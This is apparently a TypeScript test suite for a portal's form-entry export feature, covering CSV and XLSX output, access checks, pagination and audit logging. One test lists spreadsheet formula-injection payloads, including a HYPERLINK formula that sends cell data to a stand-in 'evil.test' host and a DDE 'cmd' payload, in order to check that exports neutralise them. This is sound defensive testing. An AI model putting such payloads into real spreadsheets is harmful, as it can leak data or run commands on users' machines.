import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { sql } from 'kysely';
import { expect, onTestFinished, test } from 'vitest';
import type { FormField } from '@portico/kinds/formFields';
import {
  FORM_ENTRY_PAGE_SIZE,
  formExportPath,
  formFilePath,
  formFileUrl,
  listFormEntries,
  listForms,
  submitEntry,
} from '@portico/contracts/forms';
import type { FormFile, FormValues } from '@portico/contracts/formValues';
import { readFile } from '../../media/reading/readFile.ts';
import { addFile } from '../../media/files/files.ts';
import { openZip } from '../../media/zip/zipArchive.ts';
import { aForm } from '../../testing/aForm.ts';
import { sharedPortal } from '../../testing/testPortal.ts';
import { escapeFormula } from '../../spreadsheets/streamCsv.ts';
import { readRowOrThrow } from '../../db/rows.ts';
import { z } from 'zod/mini';
import { expectWithin } from '../../testing/expectWithin.ts';

const shared = sharedPortal({
  env: { PUBLIC_URL: 'https://portal.example', OIDC_ISSUER: 'https://id.example' },
  issuer: { issuer: 'https://id.example' },
});
async function publishForm(form = aForm()) {
  return { formId: form.formId, form, itemId: await shared().make.resource({ components: [form] }) };
}
let count = 0;
const send = (who: string, formId: string, values: FormValues) =>
  shared()
    .as(who)
    .call(submitEntry, { params: { formId }, body: { values } }, { 'idempotency-key': `key-${(count += 1)}` });
const exported = async (formId: string, format: 'csv' | 'xlsx', who = 'edda') =>
  shared().portal.inject({ url: formExportPath(formId, format), headers: await shared().as(who).headers() });
/** The cells of a CSV file as a spreadsheet would read them. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv
    .replace(/^\ufeff/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (quoted === undefined && plain === '' && end === '') continue;
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

/** The XML of a workbook's sheet. */
async function sheetOf(workbook: Buffer): Promise<string> {
  const archive = await openZip({
    size: workbook.length,
    read: async (start, length) => workbook.subarray(start, start + length),
  });
  return (await archive.unpack('xl/worksheets/sheet1.xml', 10_000_000)).toString();
}

const all: Parameters<typeof aForm>[0] = {
  title: 'Expense claim: 2026/Q1',
  fields: [
    { type: 'TitleAndDescription', title: 'About' },
    { type: 'TextField', alias: 'what', label: 'What' },
    { type: 'TextField', format: 'Number', alias: 'amount', label: 'Amount' },
    {
      type: 'MultiChoice',
      alias: 'kinds',
      label: 'Kinds',
      options: [
        { value: 'a', label: 'Air fare' },
        { value: 'b', label: 'Bed, breakfast' },
      ],
    },
    { type: 'Checkbox', alias: 'sure', label: 'Sure' },
    { type: 'FileUpload', alias: 'receipts', label: 'Receipts' },
    { type: 'Divider' },
  ],
};

test('editors export all entries as a table with a column for each field of any version; others get 404', async () => {
  const { portal, as, make, clock } = shared();
  const { formId, form, itemId } = await publishForm(aForm(all));
  const uploaded = await portal.inject({
    method: 'POST',
    url: formFilePath(formId),
    payload: 'x',
    headers: {
      ...(await as('ana').headers()),
      'content-type': 'text/plain',
      'x-file-name': 'a.txt',
      'x-field': 'receipts',
    },
  });
  const { id } = uploaded.json<FormFile>();
  await send('ana', formId, {
    what: 'Zürich – "dinner"\nfor two',
    amount: '1,250.50',
    kinds: ['b', 'a'],
    sure: true,
    receipts: [id],
  });
  const renamed = {
    ...form,
    fields: [
      ...form.fields.filter((field) => !('alias' in field && field.alias === 'kinds')),
      { id: 'n', type: 'TextArea', alias: 'note', label: 'What' } satisfies FormField,
    ],
  };
  await make.republish(itemId, { components: [renamed] });
  clock.now = new Date(clock.now.getTime() + 1000);
  await send('nils', formId, { what: 'Cab', amount: '-12', note: 'late' });
  const answer = await exported(formId, 'csv');
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'cache-control': 'no-store',
    'content-disposition': expect.stringMatching(
      /^attachment; filename="Expense claim_ 2026_Q1 \d{4}-\d\d-\d\d\.csv"/,
    ) as string,
  });
  expect(answer.body.startsWith('\ufeff')).toBe(true);
  const [header, second, first] = cellsOf(answer.body);
  expect(header).toEqual([
    'Received (UTC)',
    'Name',
    'Email',
    'Sent by',
    'Form version',
    'What (what)',
    'Amount',
    'Sure',
    'Receipts',
    'What (note)',
    'Kinds',
  ]);
  expect(second!.slice(1)).toEqual(['Nils Aldous', '', '', '2', 'Cab', '-12', 'No', '', 'late', '']);
  expect(first!.slice(1)).toEqual([
    'Ana Brandt',
    '',
    '',
    '1',
    'Zürich – "dinner"\nfor two',
    '1250.5',
    'Yes',
    `a.txt (https://portal.example${formFileUrl(id)})`,
    '',
    'Air fare; Bed, breakfast',
  ]);
  for (const format of ['csv', 'xlsx'] as const) expect((await exported(formId, format, 'ana')).statusCode).toBe(404);
  expect((await exported(randomUUID(), 'csv')).statusCode).toBe(404);
  await make.withdraw(itemId);
  expect(cellsOf((await exported(formId, 'csv')).body)).toHaveLength(3);
});

test('texts that look like formulas are harmless in a spreadsheet [FORM-015, X6]', async () => {
  const hostile = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '＝1',
    '＋1',
    '－1',
    '＠1',
    '=HYPERLINK("https://evil.test?"&A1)',
    "=cmd|'/c calc'!A1",
  ];
  for (const text of hostile) expect(escapeFormula(text), JSON.stringify(text)).toBe(`'${text}`);
  for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1", 'a; b', 'a\nb', 'Mon - Fri; 9-5'])
    expect(escapeFormula(text)).toBe(text);
  for (const [text, safe] of [
    ['a;=1+1', "a;'=1+1"],
    ['a\n=1', "a\n'=1"],
    ['a\t @x', "a\t '@x"],
    ['a;"=1"', `a;"'=1"`],
    ['=1;=2', "'=1;'=2"],
    ['a; ＝1', "a; '＝1"],
  ] as const)
    expect(escapeFormula(text), text).toBe(safe);
  expect(escapeFormula(-12)).toBe(-12);
  const { formId } = await publishForm(
    aForm({ title: '=1+1', fields: [{ type: 'TextArea', alias: 'text', label: '=label()' }] }),
  );
  for (const text of hostile) await send('ana', formId, { text: `${text} x` });
  const cells = cellsOf((await exported(formId, 'csv')).body);
  for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  // A workbook stores text as text whatever it starts with, so it contains no formula and the text is unchanged.
  const sheet = await sheetOf((await exported(formId, 'xlsx')).rawPayload);
  expect(sheet).not.toMatch(/<f[ >/]/);
  const texts = [...sheet.matchAll(/<c [^>]*t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t><\/is><\/c>/g)].map(
    ([, text]) => text,
  );
  expect(texts).toContain('=1+1 x');
  expect(texts).toContain('=HYPERLINK("https://evil.test?"&amp;A1) x');
  expect(sheet.replaceAll(/<c [^>]*t="inlineStr">.*?<\/c>/gs, '')).not.toContain('1+1');
});

test('the workbook opens in our own reader and others, with numbers as numbers and text as text', async () => {
  const { db, store } = shared();
  const { formId } = await publishForm(aForm(all));
  await send('ana', formId, { what: '=1+1 <b>&amp;</b> _x000A_ \u0001 😀 "x"', amount: '1250.50', sure: true });
  const answer = await exported(formId, 'xlsx');
  expect(answer.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const { fileId } = await addFile(
    { db, store },
    { stream: Readable.from([answer.rawPayload]), fileName: 'export.xlsx' },
  );
  await readFile({ fileId } as never, { ...shared().parts, db, store } as never);
  const { text } = await readRowOrThrow(
    db,
    z.object({ text: z.string() }),
    sql`select text from file_texts where file_id = ${fileId}`,
  );
  expect(text).toContain('=1+1 <b>&amp;</b> _x');
  expect(text).toContain('😀 "x"');
  expect(text).toContain('1250.5');
  const folder = await mkdtemp(join(tmpdir(), 'portico-xlsx-'));
  onTestFinished(() => rm(folder, { recursive: true }));
  await writeFile(join(folder, 'a.xlsx'), answer.rawPayload);
  const hasUnzip = (() => {
    try {
      execFileSync('unzip', ['-v'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();
  if (hasUnzip)
    expect(execFileSync('unzip', ['-t', join(folder, 'a.xlsx')]).toString()).toContain('No errors detected');
});

test('ten thousand entries are streamed within seconds in both formats', { tags: 'timed' }, async () => {
  const { db } = shared();
  const { formId } = await publishForm();
  await send('ana', formId, { name: 'First' });
  await sql`insert into form_entries (id, form_id, form_version, user_id, values, received_at)
    select gen_random_uuid(), form_id, 1, user_id, jsonb_build_object('name', 'Entry ' || number), received_at - number * interval '1 second'
    from form_entries, generate_series(1, 9999) number where form_id = ${formId}`.execute(db);
  const started = performance.now();
  const csv = cellsOf((await exported(formId, 'csv')).body);
  expect(csv).toHaveLength(10_001);
  expect(new Set(csv.map((row) => row[5])).size).toBe(10_001);
  expect((await exported(formId, 'xlsx')).rawPayload.length).toBeGreaterThan(50_000);
  expectWithin(20_000, performance.now() - started);
});

test('entries past page 1,000 are read by their position, and the export contains all of them [FORM-018]', async () => {
  const { formId } = await publishForm();
  await send('ana', formId, { name: 'First' });
  // Adds 25,010 entries, some received at the same time.
  await sql`insert into form_entries (id, form_id, form_version, user_id, values, received_at)
    select gen_random_uuid(), form_id, form_version, user_id, jsonb_build_object('name', 'Copy ' || n), received_at - (n / 3) * interval '1 ms'
    from form_entries, generate_series(1, 25010) n where form_id = ${formId}`.execute(shared().db);
  const list = (query: { page?: string; before?: string }) =>
    shared().as('edda').call(listFormEntries, { params: { formId }, query });
  const first = await list({});
  expect(first).toMatchObject({ total: 25_011, older: first.items.at(-1)!.id });
  const second = await list({ page: '2' });
  expect((await list({ before: first.older! })).items).toEqual(second.items);
  let last = await list({ page: '1000' });
  const seen = new Set(last.items.map(({ id }) => id));
  while (last.older !== null) {
    last = await list({ before: last.older });
    for (const { id } of last.items) seen.add(id);
  }
  expect(seen.size).toBe(25_011 - 999 * FORM_ENTRY_PAGE_SIZE);
  expect(await list({ before: randomUUID() })).toMatchObject({ items: [], older: null });
  const csv = cellsOf((await exported(formId, 'csv')).body);
  expect(csv).toHaveLength(1 + 25_011);
});

test('each read of entries by an editor is recorded in the audit log first, without submitted values [L3, L1]', async () => {
  const { db } = shared();
  const { formId } = await publishForm();
  await send('ana', formId, { name: 'very-private-words' });
  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: {} })).toMatchObject({
    total: 1,
    title: 'Request',
    forms: { 1: { formId } },
    items: [{ formVersion: 1, person: { name: 'Ana Brandt', email: null }, values: { name: 'very-private-words' } }],
  });
  await exported(formId, 'csv');
  await exported(formId, 'xlsx');
  const trail = await db
    .selectFrom('audit_log')
    .select(['action', 'details'])
    .where('object_id', '=', formId)
    .where('action', '<>', 'form.submitted')
    .orderBy('id')
    .execute();
  expect(trail).toEqual([
    { action: 'form.entries-read', details: { page: 1 } },
    { action: 'form.entries-exported', details: { format: 'csv' } },
    { action: 'form.entries-exported', details: { format: 'xlsx' } },
  ]);
  expect(JSON.stringify([trail, shared().logged])).not.toContain('very-private-words');
  expect(await shared().as('ana').fail(listFormEntries, { params: { formId }, query: {} })).toMatchObject({
    status: 404,
  });
  expect(
    await shared()
      .as('edda')
      .call(listFormEntries, { params: { formId }, query: { page: '2' } }),
  ).toMatchObject({ total: 1, items: [], forms: {} });
  expect(
    await shared()
      .as('edda')
      .fail(listFormEntries, { params: { formId: randomUUID() }, query: {} }),
  ).toMatchObject({ status: 404 });
});

test('the list of forms has every form that was ever published, with its entry count and location', async () => {
  const { formId, itemId } = await publishForm(aForm({ title: 'Listed' }));
  // An instant with trailing zeros.
  shared().clock.now = new Date(Math.ceil(shared().clock.now.getTime() / 1000) * 1000);
  await send('ana', formId, { name: 'A' });
  const { receivedAt } = await send('nils', formId, { name: 'N' });
  const overview = async () =>
    (await shared().as('edda').call(listForms, {})).items.find((item) => item.formId === formId);
  expect(await overview()).toEqual({
    formId,
    title: 'Listed',
    path: `/resources/${itemId}`,
    entries: 2,
    newEntries: 2,
    inWork: 0,
    overdue: 0,
    lastReceivedAt: receivedAt,
  });
  await shared().make.withdraw(itemId);
  expect(await overview()).toMatchObject({ path: null, entries: 2 });
  expect(await shared().as('ana').fail(listForms, {})).toMatchObject({ status: 404 });
});
